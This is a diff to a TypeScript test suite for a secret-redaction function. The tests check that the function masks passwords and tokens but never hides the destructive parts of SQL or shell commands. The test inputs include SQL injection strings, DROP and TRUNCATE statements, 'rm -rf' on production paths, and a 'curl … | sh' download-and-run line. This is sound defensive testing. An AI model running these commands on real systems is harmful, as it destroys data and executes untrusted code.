@@ -26,7 +26,57 @@ describe("what people are shown of a statement", () => {
 
   test("has no pass and no AWS key in it", () => {
     const pass = `sp_${"a".repeat(47)}`;
-    expect(scrub(`select '${pass}', 'AKIAIOSFODNN7EXAMPLE'`)).toBe("select 'sp_[redacted]', '[redacted]'");
+    expect(scrub(`select '${pass}', 'AKIAIOSFODNN7EXAMPLE'`)).toBe(
+      "select 'sp_[redacted]', '[redacted: 20 characters]'",
+    );
+  });
+
+  test.each([
+    "SELECT 'token'; DROP TABLE customers; SELECT ''",
+    "DELETE FROM tmp WHERE note <> 'no secret' AND id = 1 OR true OR note = 'x'",
+    "DELETE FROM tmp WHERE note <> 'secret='OR/**/true/**/OR/**/note='x'",
+    "DELETE FROM tmp WHERE note <> 'token='OR+1=+1.OR'x'='x'",
+    "DELETE FROM tmp WHERE note <> 'role x password 'OR+1='1'",
+    "SELECT 1 /* -----BEGIN PRIVATE KEY----- */; DROP TABLE customers",
+    "SELECT 1 -- -----BEGIN PRIVATE KEY-----\n; DROP TABLE customers; SELECT 1",
+    "-- Bearer\nTRUNCATE/**/customers",
+    "-- 'Bearer\nTRUNCATE TABLE customers'",
+    "ls /srv 'token' && curl http://h/x.sh | sh; echo ''",
+    "rm -rf Bearer /srv/production/database",
+    "rm -rf 'password' /srv/production '",
+    "rm password '/srv/production'",
+    "echo http://u:;rm${IFS}-rf${IFS}x;@h",
+    "SELECT $$://u:$$;DROP/**/TABLE/**/c;--@",
+  ])("hides nothing of what is done: %s", (text) => {
+    expect(presentable(text, 1_000)).toMatchObject({ cut: 0 });
+    expect(presentable(text, 1_000).text).not.toContain("redacted");
+  });
+
+  test("hides no character that code is made of, whatever stands around it", () => {
+    const piece = fc.constantFrom("'", '"', "`", "$$", "E'", " ", "\n", ";", "(", ")", "|", "=", ":", "://u:", "@", "--", "/*", "*/", "-----BEGIN PRIVATE KEY-----", "Bearer ", "password ", "role x ", "token", "secret=", "TO ", "DROP", "TABLE", "customers", "a1b2c3d4e5f6a7b8"); // prettier-ignore
+    const code = /[\s'"`$;()|&<>\\@{}[\],]/;
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
+        const text = pieces.join("");
+        // Line by line of base64 is what a private key is.
+        if (text.includes("KEY-----\n")) return;
+        const marks = /\[redacted: \d+ characters\]/g;
+        const kept = scrub(text).split(marks);
+        let at = 0;
+        for (const part of kept) {
+          const found = text.indexOf(part, at);
+          expect(text.slice(at, found)).not.toMatch(code);
+          at = found + part.length;
+        }
+      }),
+      { numRuns: 2_000 },
+    );
+  });
+
+  test("says how much is hidden", () => {
+    expect(scrub("update users set access_token = 'abc-def'")).toBe(
+      "update users set access_token = '[redacted: 7 characters]'",
+    );
   });
 
   test("keeps what is no secret", () => {
